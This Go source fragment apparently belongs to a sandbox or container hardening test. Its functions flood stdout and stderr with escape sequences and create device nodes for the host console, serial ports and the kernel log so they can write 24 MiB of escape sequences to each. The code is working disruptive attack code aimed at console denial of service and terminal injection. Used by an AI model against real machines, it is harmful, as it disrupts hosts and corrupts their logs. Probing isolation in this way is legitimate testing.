package main

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"

	"golang.org/x/sys/unix"
)

// floodLogs writes 96 MiB to its two streams.
func floodLogs([]string) {
	chunk := bytes.Repeat([]byte(escapes), (64<<10)/len(escapes))
	written := 0
	for n := 0; written < 96<<20; n++ {
		to := os.Stdout
		if n%2 == 1 {
			to = os.Stderr
		}
		w, err := to.Write(chunk)
		if written += w; err != nil {
			break
		}
	}
	os.Stderr.WriteString("\n")
	say("written", written)
}

// floodConsole writes 24 MiB to the machine's console by each device that leads there, and to the kernel's log.
func floodConsole([]string) {
	line := []byte(strings.Repeat(escapes, 20) + "\n")
	for _, d := range []struct {
		name         string
		major, minor uint32 // Documentation/admin-guide/devices.txt
	}{{"console", 5, 1}, {"ttyS0", 4, 64}, {"hvc0", 229, 0}, {"kmsg", 1, 11}} {
		path := filepath.Join("/", "attack-"+d.name)
		_ = unix.Mknod(path, unix.S_IFCHR|0o600, int(unix.Mkdev(d.major, d.minor))) // a machine that does not have it refuses below
		f, err := os.OpenFile(path, os.O_WRONLY|unix.O_NOCTTY|unix.O_NONBLOCK, 0)
		if err != nil {
			say(d.name, err)
			continue
		}
		written, failed := 0, 0
		for written < 24<<20 && failed < 2000 {
			n, err := unix.Write(int(f.Fd()), line)
			if written += max(n, 0); err != nil {
				failed++
			}
		}
		say(d.name, written)
		f.Close()
	}
}
